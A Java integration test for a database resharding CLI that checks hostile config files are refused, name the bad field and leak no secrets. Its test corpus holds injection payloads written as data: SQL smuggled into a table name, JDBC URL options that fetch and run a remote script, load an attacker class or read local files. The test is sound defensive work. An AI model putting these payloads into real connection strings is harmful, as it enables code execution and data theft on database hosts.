package dev.reshard.cli.migrate;

import static org.assertj.core.api.Assertions.assertThat;

import dev.reshard.catalog.Catalog;
import dev.reshard.catalog.Catalogs;
import dev.reshard.catalog.RoutingState;
import dev.reshard.cli.CliRun;
import dev.reshard.cli.ReshardCommand;
import dev.reshard.core.ShardId;
import dev.reshard.core.map.ShardMap;
import dev.reshard.core.map.ShardMaps;
import dev.reshard.core.strategy.VirtualShardMap;
import dev.reshard.workload.DemoSchema;
import dev.reshard.workload.Ledger;
import dev.reshard.workload.Writers;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import javax.sql.DataSource;
import org.h2.jdbcx.JdbcDataSource;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A corpus of hostile and careless configs (identifiers, URLs, YAML, numbers, secrets, shard
 * identity): each is refused with exit 2 and a message naming the field, nothing is written to the
 * catalog or the shards, and the sentinel password appears in no output.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileConfigIT {
    private static final String SENTINEL = "S3ntinel-pw-9";

    @TempDir
    static Path dir;

    private final Map<ShardId, DataSource> shards = new LinkedHashMap<>();
    private Map<ShardId, String> before;

    @BeforeAll
    void shardsAndMaps() throws Exception {
        for (int i = 0; i < 3; i++) {
            JdbcDataSource ds = new JdbcDataSource();
            ds.setURL(shardUrl(i));
            ds.setUser("sa");
            shards.put(ShardId.of("shard_" + i), ds);
            try (Connection c = ds.getConnection()) {
                DemoSchema.create(c, i);
            }
        }
        ShardId s0 = ShardId.of("shard_0");
        ShardId s1 = ShardId.of("shard_1");
        ShardMap from = ShardMap.initial(VirtualShardMap.roundRobin(64, List.of(s0, s1)));
        Writers.load(shards, from, new Ledger(), 300, 1, 7);
        try (Catalog catalog = Catalogs.embedded(dir.resolve("catalog"))) {
            catalog.publish(from, 0, "test: initial");
            catalog.publishRouting(RoutingState.stable(1, from.version()));
            catalog.publish(
                    ShardMaps.balanceVirtualShards(from, new ArrayList<>(List.of(s0, s1, ShardId.of("shard_2")))),
                    1,
                    "test: add shard_2");
        }
        Files.writeString(dir.resolve("pw.txt"), SENTINEL + "\n");
        before = snapshot();
    }

    @AfterAll
    void unchanged() throws SQLException {
        assertThat(snapshot()).isEqualTo(before);
    }

    Stream<Arguments> corpus() {
        return Stream.of(
                // identifiers
                hostile("shard id with a space", "shards[0].id", y -> y.replace("id: shard_0", "id: \"shard 0\"")),
                hostile("shard ids differing in case", "shards[1].id", y -> y.replace("id: shard_1", "id: SHARD_0")),
                hostile(
                        "table name with SQL",
                        "tables[0].name",
                        y -> y.replace("name: users", "name: \"users; DROP TABLE users\"")),
                // URLs
                hostile(
                        "H2 INIT",
                        "shards[0].url",
                        y -> y.replace(shardUrl(0), shardUrl(0) + ";INIT=RUNSCRIPT_FROM_'http://x/x.sql'")),
                hostile(
                        "H2 TRACE_LEVEL_FILE",
                        "shards[0].url",
                        y -> y.replace(shardUrl(0), shardUrl(0) + ";TRACE_LEVEL_FILE=3")),
                hostile("H2 in memory", "shards[2].url", y -> y.replace(shardUrl(2), "jdbc:h2:mem:shard_2")),
                hostile(
                        "PgJDBC socketFactory",
                        "shards[0].url",
                        y -> y.replace(shardUrl(0), "jdbc:postgresql://127.0.0.1:5432/app?socketFactory=x.Evil")),
                hostile(
                        "PgJDBC loggerFile",
                        "shards[0].url",
                        y -> y.replace(shardUrl(0), "jdbc:postgresql://127.0.0.1/app?loggerFile=/tmp/x")),
                hostile(
                        "MariaDB allowLoadLocalInfile",
                        "shards[0].url",
                        y -> y.replace(shardUrl(0), "jdbc:mariadb://127.0.0.1/app?allowLoadLocalInfile=true")),
                hostile("unknown driver", "shards[1].url", y -> y.replace(shardUrl(1), "jdbc:sqlite:/tmp/x.db")),
                hostile("no driver", "shards[1].url", y -> y.replace(shardUrl(1), "\"jdbc:\"")),
                hostile(
                        "port not a number",
                        "shards[1].url",
                        y -> y.replace(shardUrl(1), "jdbc:postgresql://db:notaport/app")),
                hostile(
                        "user:pass@host",
                        "shards[1].url",
                        y -> y.replace(shardUrl(1), "jdbc:postgresql://app:" + SENTINEL + "@db/app")),
                hostile(
                        "password property",
                        "shards[1].url",
                        y -> y.replace(shardUrl(1), "jdbc:postgresql://db/app?pa%73sword=" + SENTINEL)),
                hostile(
                        "catalog url socketFactory",
                        "catalog.url",
                        y -> y.replace(
                                "  path: catalog\n", "  url: jdbc:postgresql://127.0.0.1/c?socketFactory=x.Y\n")),
                // YAML
                hostile(
                        "alias",
                        "shards[1].user",
                        y -> y.replace(
                                "user: sa\n    capacity: 1GB\n  - id: shard_1\n    url: " + shardUrl(1)
                                        + "\n    user: sa",
                                "user: &u sa\n    capacity: 1GB\n  - id: shard_1\n    url: " + shardUrl(1)
                                        + "\n    user: *u")),
                hostile("merge key", "options", y -> y + "  <<: {batchRows: 5}\n"),
                hostile("second document", "config", y -> y + "---\ncatalog:\n  path: elsewhere\n"),
                hostile("off as a user", "shards[0].user", y -> y.replaceFirst("user: sa", "user: off")),
                hostile("hex capacity", "shards[0].capacity", y -> y.replaceFirst("capacity: 1GB", "capacity: 0x10")),
                hostile("octal capacity", "shards[0].capacity", y -> y.replaceFirst("capacity: 1GB", "capacity: 0755")),
                hostile(
                        "syntax error on the password line",
                        "config",
                        y -> y.replaceFirst("user: sa", "user: sa\n    password: \"" + SENTINEL + "\" : [")),
                // numbers
                hostile("parallelism too large", "options.parallelism", y -> y + "  parallelism: 1000000000\n"),
                hostile(
                        "batchRows overflows",
                        "options.batchRows",
                        y -> y.replace("batchRows: 500", "batchRows: 99999999999999999999")),
                hostile(
                        "gracePeriod too large",
                        "options.gracePeriod",
                        y -> y.replace("gracePeriod: 0s", "gracePeriod: 99999999h")),
                hostile(
                        "leaseTtl too small",
                        "options.leaseTtl",
                        y -> y.replace("leaseTtl: 5s", "leaseTtl: PT0.0000001S")),
                hostile(
                        "negative capacity",
                        "shards[2].capacity",
                        y -> y.replace("capacity: 1GB\ntables", "capacity: -1\ntables")),
                // secrets
                hostile(
                        "clear-text password",
                        "shards[0].password",
                        y -> y.replaceFirst("user: sa", "user: sa\n    password: " + SENTINEL)),
                hostile(
                        "file secret with a bad URL",
                        "shards[0].url",
                        y -> y.replaceFirst("user: sa", "user: sa\n    password: file:pw.txt")
                                .replace(shardUrl(0), "jdbc:postgresql://127.0.0.1:1/none?sslfactory=x.Y")),
                hostile(
                        "unset variable",
                        "shards[0].password",
                        y -> y.replaceFirst("user: sa", "user: sa\n    password: env:RESHARD_HOSTILE_UNSET_1")),
                // identity
                hostile(
                        "two ids, one database",
                        "shards[2].url",
                        y -> y.replace(
                                shardUrl(2),
                                "jdbc:h2:file:" + dir.resolve("tmp/../shard_0").toAbsolutePath())),
                hostile(
                        "a shard that is the catalog",
                        "shards[2].url",
                        y -> y.replace(
                                shardUrl(2),
                                "jdbc:h2:file:"
                                        + dir.resolve("catalog/reshard-catalog").toAbsolutePath())));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corpus")
    void start_hostileConfig_isRefused_namesTheField_writesNothing_andHidesTheSecret(
            String name, String field, UnaryOperator<String> edit) throws Exception {
        Path config = dir.resolve("hostile.yaml");
        Files.writeString(config, edit.apply(valid()));

        CliRun run = CliRun.of("migrate", "start", "-c", config.toString(), "--id", "m1", "--from", "1", "--to", "2");

        assertThat(run.exit()).as(run.err()).isEqualTo(ReshardCommand.BAD_INPUT);
        assertThat(run.err()).contains("  - " + field + ": ").doesNotContain("\tat ", "internal error");
        assertThat(run.out() + run.err()).doesNotContain(SENTINEL);
        try (Catalog catalog = Catalogs.embedded(dir.resolve("catalog"))) {
            assertThat(catalog.shards()).isEmpty();
            assertThat(catalog.migrations()).isEmpty();
        }
        assertThat(snapshot()).isEqualTo(before);
    }

    private static Arguments hostile(String name, String field, UnaryOperator<String> edit) {
        return Arguments.of(name, field, edit);
    }

    private String valid() {
        StringBuilder yaml = new StringBuilder("catalog:\n  path: catalog\nshards:\n");
        for (int i = 0; i < 3; i++) {
            yaml.append("  - id: shard_")
                    .append(i)
                    .append("\n    url: ")
                    .append(shardUrl(i))
                    .append("\n    user: sa\n    capacity: 1GB\n");
        }
        return yaml.append("tables:\n  - name: users\n    shardKey: id\n  - name: orders\n    shardKey: user_id\n")
                .append("options:\n  batchRows: 500\n  cutoverBudget: 2s\n  gracePeriod: 0s\n  leaseTtl: 5s\n")
                .toString();
    }

    private String shardUrl(int i) {
        return "jdbc:h2:file:" + dir.resolve("shard_" + i).toAbsolutePath();
    }

    /** Per shard: its tables, their row counts and a checksum of their rows. */
    private Map<ShardId, String> snapshot() throws SQLException {
        Map<ShardId, String> out = new LinkedHashMap<>();
        for (Map.Entry<ShardId, DataSource> e : shards.entrySet()) {
            StringBuilder s = new StringBuilder();
            try (Connection c = e.getValue().getConnection();
                    Statement st = c.createStatement()) {
                List<String> tables = new ArrayList<>();
                try (ResultSet rs = st.executeQuery("SELECT TABLE_NAME FROM INFORMATION_SCHEMA.TABLES"
                        + " WHERE TABLE_SCHEMA = 'PUBLIC' ORDER BY TABLE_NAME")) {
                    while (rs.next()) {
                        tables.add(rs.getString(1));
                    }
                }
                for (String t : tables) {
                    long rows = 0;
                    int hash = 0;
                    try (ResultSet rs = st.executeQuery("SELECT * FROM " + t + " ORDER BY 1")) {
                        int columns = rs.getMetaData().getColumnCount();
                        while (rs.next()) {
                            rows++;
                            for (int col = 1; col <= columns; col++) {
                                hash = 31 * hash
                                        + String.valueOf(rs.getObject(col)).hashCode();
                            }
                        }
                    }
                    s.append(t)
                            .append('=')
                            .append(rows)
                            .append('/')
                            .append(hash)
                            .append(' ');
                }
                try (ResultSet rs = st.executeQuery("SELECT COUNT(*) FROM INFORMATION_SCHEMA.TRIGGERS")) {
                    rs.next();
                    s.append("triggers=").append(rs.getLong(1));
                }
            }
            out.put(e.getKey(), s.toString());
        }
        return out;
    }
}
